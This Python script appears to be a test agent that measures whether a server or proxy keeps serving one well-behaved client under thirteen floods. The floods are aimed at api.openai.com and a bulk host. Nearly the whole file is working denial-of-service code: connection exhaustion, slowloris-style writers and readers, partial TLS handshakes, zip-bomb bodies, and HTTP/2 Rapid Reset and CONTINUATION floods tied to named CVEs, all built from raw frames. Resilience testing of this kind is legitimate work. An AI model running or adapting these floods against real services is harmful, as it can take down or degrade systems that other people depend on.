"""What the agent of Tests/Floods does: one well-behaved connection, and around it a flood of a kind. Standard library only.

Order of each flood: a request on a kept connection is served; the flood is driven as far as egress lets it; while it stands,
the kept connection is served again. Prints `GOT n`, n being how much of the flood was taken, or `NO why`."""

import contextlib
import gzip
import json
import socket
import ssl
import struct
import sys
import threading
import time

NAME = "api.openai.com"
BULK = "bulk.example"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9


def connect(name=NAME, alpn="http/1.1"):
    context = ssl.create_default_context()
    context.set_alpn_protocols([alpn])
    raw = socket.create_connection((name, 443), 20)
    return context.wrap_socket(raw, server_hostname=name)


class Kept:
    """A connection that asks for little and gets it."""

    def __init__(self):
        self.socket = connect()
        self.ask()

    def ask(self):
        body = json.dumps({"model": "gpt-4o-mini", "max_tokens": 5, "messages": [{"role": "user", "content": "hello"}]}).encode()
        self.socket.settimeout(60)
        self.socket.sendall(
            f"POST /v1/chat/completions HTTP/1.1\r\nHost: {NAME}\r\nAuthorization: Bearer sk-flood\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
        answer = b""
        while b"\r\n\r\n" not in answer or b'"choices"' not in answer:
            piece = self.socket.recv(65536)
            if not piece:
                raise ConnectionError("the kept connection was closed: " + repr(answer[:200]))
            answer += piece
            if not answer.startswith(b"HTTP/1.1 200"[: len(answer)]):
                raise ConnectionError("the kept connection is refused: " + repr(answer[:300]))


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field without indexing (RFC 7541 §6.2.2), names and values under 127 bytes."""
    return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def head(path, method="GET", name=NAME):
    return b"".join(literal(*pair) for pair in ((":method", method), (":scheme", "https"), (":authority", name), (":path", path)))


def h2(name=NAME, window=None):
    connection = connect(name, "h2")
    settings = struct.pack(">HI", 4, window) if window is not None else b""
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return connection


def drive(pieces, connection, timeout=5):
    """Sends until the other end stops taking, or closes: the number of pieces that went."""
    connection.settimeout(timeout)
    count = 0
    with contextlib.suppress(OSError):
        for piece in pieces:
            connection.sendall(piece)
            count += 1
    return count


def many(count, make):
    """Up to `count` connections, until one is refused ten times in a row."""
    made, misses = [], 0
    while len(made) < count and misses < 10:
        try:
            made.append(make())
            misses = 0
        except OSError:
            misses += 1
    return made


# Each returns (how much, what must stay alive while the kept connection asks again).

def idle_connections():
    """10,000 connections on which nothing is said."""
    made = many(10_000, lambda: socket.create_connection((NAME, 443), 20))
    return len(made), made


def half_hellos():
    """Every connection that is taken has said most of a large ClientHello."""
    def half():
        raw = socket.create_connection((NAME, 443), 20)
        raw.sendall(b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03" + b"\x00" * 15_000)
        return raw
    made = many(600, half)
    return len(made), made


def slow_writers():
    """Bodies of 4 MiB of which the last byte never comes."""
    def writer():
        connection = connect()
        connection.sendall(f"POST /v1/chat/completions HTTP/1.1\r\nHost: {NAME}\r\nContent-Type: application/json\r\nContent-Length: 4194304\r\n\r\n".encode())
        drive([b" " * 65536] * 63, connection, 2)
        return connection
    made = many(60, writer)
    return len(made), made


def large_bodies():
    """Whole bodies of nearly the greatest size, many at once, each of which has to be read to its end."""
    body = json.dumps({"notes": ["the parser fails on line %d, see the notes there" % n for n in range(270_000)]}).encode()
    served = []

    def send():
        with contextlib.suppress(OSError), connect(BULK) as connection:
            connection.settimeout(60)
            connection.sendall(f"POST /upload HTTP/1.1\r\nHost: {BULK}\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
            served.append(connection.recv(64)[:12])

    threads = [threading.Thread(target=send) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    if b"HTTP/1.1 200" not in served:
        raise RuntimeError(f"no body of {len(body)} bytes is served: {served}")
    return f"{len(body)} bytes, {served.count(b'HTTP/1.1 200')} of {len(threads)}", None


def slow_writer_streams():
    """The same on the streams of HTTP/2 connections."""
    made, count = [], 0
    for _ in range(20):
        connection = h2()
        made.append(connection)
        for stream in range(1, 200, 2):
            fields = head("/v1/chat/completions", "POST") + literal("content-type", "application/json")
            count += drive([frame(HEADERS, 4, stream, fields), *[frame(DATA, 0, stream, b" " * 16000)] * 4], connection, 2)
    return count, made


def slow_readers():
    """Large answers that nobody reads."""
    def reader():
        connection = connect(BULK)
        connection.sendall(f"GET /bytes/1000000000 HTTP/1.1\r\nHost: {BULK}\r\n\r\n".encode())
        return connection
    made = many(60, reader)
    time.sleep(3)
    return len(made), made


def slow_reader_streams():
    """Large answers on the streams of HTTP/2 connections whose windows are wide open and whose sockets nobody reads."""
    made, count = [], 0
    for _ in range(60):
        try:
            connection = h2(BULK, 2**31 - 1)
        except OSError:
            break
        made.append(connection)
        connection.sendall(frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)))
        count += drive([frame(HEADERS, 5, stream, head("/bytes/1000000000", name=BULK)) for stream in range(1, 200, 2)], connection, 2)
    time.sleep(5)
    return count, made


def closed_windows():
    """The same with windows that were never opened."""
    made, count = [], 0
    for _ in range(60):
        try:
            connection = h2(BULK, 0)
        except OSError:
            break
        made.append(connection)
        count += drive([frame(HEADERS, 5, stream, head("/bytes/1000000000", name=BULK)) for stream in range(1, 200, 2)], connection, 2)
    time.sleep(5)
    return count, made


def zip_bombs():
    """Request bodies that unpack to a thousand times their size."""
    bomb = gzip.compress(b" " * (1 << 30), 9)
    made = []
    for _ in range(8):
        connection = connect()
        drive([f"POST /v1/chat/completions HTTP/1.1\r\nHost: {NAME}\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n"
               f"Content-Length: {len(bomb)}\r\n\r\n".encode() + bomb], connection, 10)
        with contextlib.suppress(OSError):
            answer = connection.recv(64)
            if not answer.startswith(b"HTTP/1.1 413"):
                raise RuntimeError(f"a bomb is answered {answer!r}")
        made.append(connection)
    return len(made), made


def rapid_reset():
    """Streams opened and reset at once (CVE-2023-44487)."""
    connection = h2()
    pieces = (frame(HEADERS, 5, s, head("/v1/models")) + frame(RESET, 0, s, struct.pack(">I", 8)) for s in range(1, 400_001, 2))
    return drive(pieces, connection, 30), connection


def continuations():
    """One header block that never ends (CVE-2024-27316 and its kind)."""
    connection = h2()
    first = frame(HEADERS, 1, 1, head("/v1/models"))
    piece = frame(CONTINUATION, 0, 1, literal("x-flood", "a" * 120) * 100)
    return drive([first, *[piece] * 20_000], connection, 30), connection


def pings():
    """Questions whose answers nobody reads."""
    connection = h2()
    return drive([frame(PING, 0, 0, b"12345678") * 1000] * 5_000, connection, 5), connection


def endless_head():
    """Header fields without end over HTTP/1.1."""
    connection = connect()
    return drive([b"GET /v1/models HTTP/1.1\r\n", *[b"x-flood: " + b"a" * 8000 + b"\r\n"] * 20_000], connection, 10), connection


FLOODS = [idle_connections, half_hellos, slow_writers, large_bodies, slow_writer_streams, slow_readers, slow_reader_streams, closed_windows, zip_bombs,
          rapid_reset, continuations, pings, endless_head]


def main(which):
    flood = next(f for f in FLOODS if f.__name__ == which)
    kept = Kept()
    print("READY", flush=True)
    sys.stdin.readline()
    count, alive = flood()
    kept.ask()
    print(f"GOT {count}", flush=True)
    sys.stdin.readline()
    del alive


if __name__ == "__main__":
    try:
        main(sys.argv[1])
    except Exception as error:
        print(f"NO {type(error).__name__}: {error}", flush=True)
